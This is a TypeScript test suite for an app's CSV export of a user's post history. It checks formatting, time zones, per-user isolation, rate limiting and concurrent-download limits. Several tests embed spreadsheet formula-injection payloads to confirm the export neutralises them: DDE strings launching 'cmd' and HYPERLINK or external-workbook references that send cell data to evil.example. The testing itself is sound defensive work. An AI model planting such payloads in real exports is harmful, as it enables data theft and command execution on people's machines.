import assert from 'node:assert/strict';
import net from 'node:net';
import { before, test } from 'node:test';
import { setTimeout as wait } from 'node:timers/promises';
import { sql } from 'kysely';
import type { Actor } from '#app/domain/platform/actor.ts';
import { addPost } from '#app/domain/publishing/state/post-state.ts';
import { makeUser } from '#tests/fixtures/accounts.ts';
import { makeScheduledPost, standAs } from '#tests/fixtures/posts.ts';
import { browserOf } from '#tests/fixtures/sessions.ts';
import { testDatabase } from '#tests/harness/database.ts';
import { head, parseHead, speak } from '#tests/harness/http/raw.ts';
import { startWeb } from '#tests/harness/web.ts';

const { db, url: databaseUrl } = await testDatabase();
let origin: string;
before(async () => {
  origin = (await startWeb({ databaseUrl })).url;
});

const inDays = (days: number) => new Date(Date.now() + days * 86_400_000);

/** The cells of a CSV, as RFC 4180 reads them. */
function parse(csv: string): string[][] {
  assert.ok(csv.startsWith('\uFEFF'));
  const rows: string[][] = [[]];
  for (const [, quoted, bare, end] of csv.slice(1).matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? bare!);
    if (end === '\r\n') rows.push([]);
  }
  assert.deepEqual(rows.pop(), []);
  return rows;
}

async function download(actor: Actor) {
  const answer = await (await browserOf(db, actor, origin)).get('/app/posts.csv');
  assert.equal(answer.status, 200);
  assert.equal(answer.headers.get('Content-Type'), 'text/csv; charset=utf-8');
  assert.match(answer.headers.get('Content-Disposition')!, /^attachment; filename=".+\.csv"$/);
  assert.equal(answer.headers.get('Cache-Control'), 'no-store, no-transform');
  const [head, ...rows] = parse(Buffer.from(await answer.arrayBuffer()).toString('utf8'));
  return rows.map((row) => {
    assert.equal(row.length, head!.length);
    return Object.fromEntries(head!.map((name, at) => [name, row[at]!]));
  });
}

test('the history is downloaded with all that is shown, in the zone of its owner', async () => {
  const actor = await makeUser(db);
  await db.updateTable('users').set({ timeZone: 'Asia/Kolkata' }).where('id', '=', actor.userId).execute();
  const content = 'Über "plans", one line,\nand another.';
  const id = await makeScheduledPost(db, actor, {
    content,
    dueAt: inDays(1),
    hashtags: ['Planning', 'Ziele'],
  });
  const postedAt = new Date('2026-11-20T12:42:00Z');
  await standAs(db, id, { status: 'published', postedAt, networkUrn: 'urn:li:share:7501' });
  await db.insertInto('engagements').values({ postId: id, userId: actor.userId, likes: 12 }).execute();
  const [row, ...more] = await download(actor);
  assert.deepEqual(more, []);
  assert.equal(row!.Text, content);
  assert.equal(row!.Hashtags, '#Planning #Ziele');
  assert.equal(row!.Status, 'Published');
  assert.equal(row!['Published at'], '2026-11-20T18:12:00+05:30');
  assert.match(row!.Created!, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+05:30$/);
  assert.match(row!['Link on LinkedIn']!, /\/feed\/update\/urn:li:share:7501\/$/);
  assert.deepEqual([row!['Likes (typed in)'], row!['Shares (typed in)']], ['12', '']);
});

test('a test post is told from the posts that everybody sees', async () => {
  const actor = await makeUser(db);
  await makeScheduledPost(db, actor, { content: 'For all.', dueAt: inDays(1) });
  await db.transaction().execute(async (trx) => {
    const test = {
      userId: actor.userId,
      content: 'trying out Tidepost.',
      visibility: 'CONNECTIONS' as const,
    };
    await addPost(trx, test, null);
  });
  const rows = await download(actor);
  assert.deepEqual(Object.fromEntries(rows.map(({ Text, Audience }) => [Text, Audience])), {
    'For all.': 'Everybody',
    'trying out Tidepost.': 'Your connections only (test post)',
  });
});

test('no cell is a formula for a spreadsheet', async () => {
  const actor = await makeUser(db);
  const texts = ['=1+1', '+1', '-1', '@sum', '＝1', '=a"b,c', '\tx', '\rx'];
  for (const content of texts)
    await makeScheduledPost(db, actor, { content, dueAt: inDays(1), hashtags: [] });
  const rows = await download(actor);
  assert.deepEqual(rows.map(({ Text }) => Text).sort(), texts.map((text) => `'${text}`).sort());
});

/** The cells as a spreadsheet reads them whose separator is ";": a quote counts at the start of a cell only. */
function readBySemicolon(csv: string): string[] {
  const cells = [];
  let rest = csv.slice(1);
  while (rest !== '') {
    const [whole, quoted = '', bare = ''] =
      /^(?:"((?:[^"]|"")*)(?:"|$))?([^;\r\n\t]*)(?:[;\t]|\r\n|[\r\n]|$)/.exec(rest)!;
    cells.push(quoted.replaceAll('""', '"') + bare);
    rest = rest.slice(whole.length);
  }
  return cells;
}

test('no piece of a text is a formula for a spreadsheet whose separator is a semicolon', async () => {
  const actor = await makeUser(db);
  const pieces = [
    '=1+1',
    '=HYPERLINK("https://evil.example/?"&A1)',
    '"=1+1',
    '""=1+1',
    '"=1+1"',
    '＝1+1',
    `@SUM(1+1)*cmd|' /C calc'!A0`,
    `+cmd|' /C calc'!A0`,
    `-cmd|' /C calc'!A0`,
    `- cmd|' /C calc'!A0`,
    '-SUM(A1:A9)',
    '"-SUM(A1:A9)',
    "+'https://evil.example/[book.xlsx]Sheet'!A1",
    '＋ＳＵＭ（A1）',
  ];
  const breaks = [';', '\n', '\r\n', '\r', '\t', ';;', '\n\n', '";', ';"";'];
  for (const piece of pieces) {
    const content = breaks.map((each) => `A line${each}${piece}`).join('\n');
    await makeScheduledPost(db, actor, { content: `${content};`, dueAt: inDays(1), hashtags: [] });
  }
  const csv = await (await (await browserOf(db, actor, origin)).get('/app/posts.csv')).text();
  const cells = readBySemicolon(`\uFEFF${csv.replace(/^\uFEFF/, '')}`);
  const formulas = cells.filter((text) => /^[=＝]|^[+\-@＋－＠].*[(|!（｜！]/.test(text));
  assert.deepEqual(formulas, []);
  assert.ok(cells.filter((text) => text.startsWith("'")).length >= pieces.length * breaks.length);
});

test('no piece at the end of a text is a formula together with the cells that follow it', async () => {
  const actor = await makeUser(db);
  const altText = `" +cmd|' /C calc'!A0;rest`;
  const imageUrl = 'https://example.com/a.png';
  const ends = ['-1&', '- 1 & ', '-', '+"', '"-1&', '-1&"&"', '-1*', '-1=', '＋1＆', '-1<', '-{', '- 2,'];
  for (const end of ends) {
    for (const mark of [';', '\n', '\t']) {
      const content = `A line${mark}${end}`;
      await makeScheduledPost(db, actor, { content, dueAt: inDays(1), hashtags: [], imageUrl });
    }
  }
  await db.updateTable('posts').set({ altText }).where('userId', '=', actor.userId).execute();
  const csv = await (await (await browserOf(db, actor, origin)).get('/app/posts.csv')).text();
  const cells = readBySemicolon(`\uFEFF${csv.replace(/^\uFEFF/, '')}`);
  assert.deepEqual(
    cells.filter((text) => /^[+\-@＋－＠].*[(|!（｜！]/.test(text)),
    [],
  );
});

test('no piece at the end of a text opens the name of a sheet that a later cell ends', async () => {
  const actor = await makeUser(db);
  for (const opens of ["-'", "- '", "+1&'", "@'it''s "]) {
    const content = `One\n${opens}https://evil.example/[b.xlsx]`;
    await makeScheduledPost(db, actor, { content, dueAt: inDays(1), hashtags: ['a'] });
  }
  await db.updateTable('posts').set({ altText: "S'!A1;x" }).where('userId', '=', actor.userId).execute();
  const csv = await (await (await browserOf(db, actor, origin)).get('/app/posts.csv')).text();
  const cells = readBySemicolon(`\uFEFF${csv.replace(/^\uFEFF/, '')}`);
  assert.deepEqual(
    cells.filter((text) => /^[+\-@＋－＠].*!/.test(text)),
    [],
  );
});

test('what people write in lines is downloaded as they wrote it', async () => {
  const actor = await makeUser(db);
  const content = [
    'What I learned:',
    '- a list item',
    '-another one; - and more',
    '+ a plus, @Ada said',
    '@Ada, thank you',
    '"- quoted"',
    'a = b; c = d',
    '\tindented',
  ].join('\n');
  const lasts = ['- a list item', '-another one.', '+ "a quote"', '@Ada, thank you', '- 50 %'];
  lasts.push("- it's fine", "- so they said, 'quoted'");
  const contents = [content, ...lasts.map((last) => `What I learned; in short:\n${last}`)];
  for (const each of contents)
    await makeScheduledPost(db, actor, { content: each, dueAt: inDays(1), hashtags: [] });
  const rows = await download(actor);
  assert.deepEqual(rows.map(({ Text }) => Text!).sort(), contents.toSorted());
});

test('everything of this user is there and nothing of anybody else, page by page', async () => {
  const [actor, other] = [await makeUser(db), await makeUser(db)];
  await makeScheduledPost(db, other, { content: 'A secret.', dueAt: inDays(1) });
  const at = Date.now();
  const posts = Array.from({ length: 1_203 }, (_, index) => ({
    userId: actor.userId,
    content: `Number ${index}.`,
    createdAt: new Date(at - Math.floor(index / 7) * 1_000),
  }));
  const made = await db.insertInto('posts').values(posts).returning(['id as postId', 'userId']).execute();
  await db.insertInto('postSchedules').values(made).execute();
  const rows = await download(actor);
  assert.equal(rows.length, 1_203);
  assert.equal(new Set(rows.map(({ Text }) => Text)).size, 1_203);
  assert.ok(!rows.some(({ Text }) => Text === 'A secret.'));
});

test('a person who downloads over and over is asked to wait', async () => {
  const actor = await makeUser(db);
  const browser = await browserOf(db, actor, origin);
  for (let time = 0; time < 10; time += 1) {
    await download(actor);
  }
  const answer = await browser.get('/app/posts.csv');
  assert.equal(answer.status, 429);
  assert.ok(Number(answer.headers.get('Retry-After')) > 60);
  assert.match(await answer.text(), /^Too many attempts\. Please wait \d+ minutes/);
  assert.equal(answer.headers.get('Refresh'), '0; url=/app/posts');
  assert.match(await browser.read('/app/posts'), /Too many attempts\. Please wait/);
});

test('asking about the file without downloading it reads nothing and counts as no download', async () => {
  const browser = await browserOf(db, await makeUser(db), origin);
  for (let time = 0; time < 12; time += 1) {
    const answer = await browser.head('/app/posts.csv');
    assert.equal(answer.status, 200);
    assert.equal(answer.headers.get('Content-Type'), 'text/csv; charset=utf-8');
  }
  assert.equal((await browser.get('/app/posts.csv')).status, 200);
});

test('the file is not there as data, which React Router would hold as a whole', async () => {
  const browser = await browserOf(db, await makeUser(db), origin);
  for (const path of ['posts.csv.data', 'POSTS.CSV.data', 'posts%2Ecsv.data', 'posts.csv/_.data']) {
    for (const more of ['', '?_routes=app%2Fposts.csv']) {
      assert.equal((await browser.get(`/app/${path}${more}`)).status, 404, path + more);
    }
  }
  const Cookie = `Cookie: tidepost=${browser.cookies.get('tidepost')}`;
  const withFragment = await speak(origin, [head('GET /app/posts.csv.data#x', [Cookie])]);
  assert.equal(parseHead(withFragment).status, 404);
  assert.equal((await browser.get('/app/posts.data')).status, 200);
});

/** More than the buffers between two sockets take. */
async function makeLongHistory(): Promise<Actor> {
  const actor = await makeUser(db);
  await sql`with made as (
      insert into posts (user_id, content, created_at)
      select ${actor.userId}, repeat('A plan on a postcard. ', 130), now() - n * interval '1 minute'
      from generate_series(1, 8000) as n returning id, user_id)
    insert into post_schedules (post_id, user_id) select id, user_id from made`.execute(db);
  return actor;
}

/** A download of which nobody reads more than its beginning. */
async function beginDownload(actor: Actor): Promise<net.Socket> {
  const { cookies } = await browserOf(db, actor, origin);
  const { hostname, port } = new URL(origin);
  const socket = net.connect(Number(port), hostname);
  socket.write(head('GET /app/posts.csv', [`Cookie: tidepost=${cookies.get('tidepost')}`]));
  await new Promise((begun) => socket.once('readable', begun));
  assert.match(String(socket.read(20)), /^HTTP\/1\.1 200/);
  return socket;
}

/** How long a download is refused, in ms. */
async function refusedFor(actor: Actor, mostMs: number): Promise<number> {
  const browser = await browserOf(db, actor, origin);
  const begun = Date.now();
  for (;;) {
    const answer = await browser.get('/app/posts.csv');
    await answer.body?.cancel();
    if (answer.status === 200) return Date.now() - begun;
    assert.ok(Date.now() - begun < mostMs, `still refused after ${mostMs} ms`);
    await wait(100);
  }
}

test('one file at a time is downloaded for an account, and another when that has ended', async () => {
  const actor = await makeLongHistory();
  const first = await beginDownload(actor);
  const browser = await browserOf(db, actor, origin);
  const answer = await browser.get('/app/posts.csv');
  assert.equal(answer.status, 429);
  assert.ok(Number(answer.headers.get('Retry-After')) >= 1);
  assert.match(await answer.text(), /being downloaded already/);
  assert.equal((await (await browserOf(db, await makeUser(db), origin)).get('/app/posts.csv')).status, 200);
  first.destroy();
  await refusedFor(actor, 5_000);
});

test('who gives a download up at any moment can begin the next', async () => {
  const actor = await makeLongHistory();
  const { cookies } = await browserOf(db, actor, origin);
  const Cookie = `tidepost=${cookies.get('tidepost')}`;
  for (const ms of [1, 3, 5, 8, 12, 20, 40]) {
    const signal = AbortSignal.timeout(ms);
    await fetch(`${origin}/app/posts.csv`, { headers: { Cookie }, signal }).catch(() => undefined);
  }
  await refusedFor(actor, 5_000);
});

test('five files are sent at a time, and who takes nothing for half a minute loses the place', async () => {
  const actors = await Promise.all(Array.from({ length: 5 }, makeLongHistory));
  const sockets = await Promise.all(actors.map(beginDownload));
  const actor = await makeUser(db);
  const answer = await (await browserOf(db, actor, origin)).get('/app/posts.csv');
  assert.equal(answer.status, 503);
  assert.ok(Number(answer.headers.get('Retry-After')) >= 1);
  assert.match(await answer.text(), /try again in a minute/);
  const ms = await refusedFor(actor, 45_000);
  assert.ok(ms > 10_000, `given up after ${ms} ms`);
  for (const socket of sockets) socket.destroy();
});

test('a visitor is led to sign in', async () => {
  const answer = await fetch(`${origin}/app/posts.csv`, { redirect: 'manual' });
  assert.deepEqual([answer.status, answer.headers.get('Location')], [302, '/login']);
});

test('where a post stands has one word in the history and in the file', async () => {
  const actor = await makeUser(db);
  const standings = [
    [{ status: 'generated' }, 'Scheduled'],
    [{ status: 'pending' }, 'Pending approval'],
    [{ status: 'failed', failure: 'refused' }, 'Failed'],
    [{ status: 'failed', failure: 'not_wanted' }, 'Set aside'],
    [{ status: 'failed', failure: 'unconfirmed', isUnconfirmed: true }, 'Not confirmed'],
  ] as const;
  for (const [standing, word] of standings) {
    const id = await makeScheduledPost(db, actor, { content: word, dueAt: inDays(2) });
    await standAs(db, id, standing);
  }
  const ready = await makeScheduledPost(db, actor, { content: 'Ready', dueAt: inDays(2) });
  await standAs(db, ready, { dueAt: null });
  const timeless = { publishAt: null, slotDate: null, slotNumber: null };
  await db.updateTable('posts').set(timeless).where('id', '=', ready).execute();
  for (const { Text, Status } of await download(actor)) assert.equal(Status, Text);
  const page = await (await browserOf(db, actor, origin)).read('/app/posts');
  const badges = [...page.matchAll(/class="badge[^>]*><svg[\s\S]*?<\/svg>([^<]*)</g)].map(
    ([, word]) => word!,
  );
  assert.deepEqual(badges.toSorted(), [...standings.map(([, word]) => word), 'Ready'].toSorted());
});
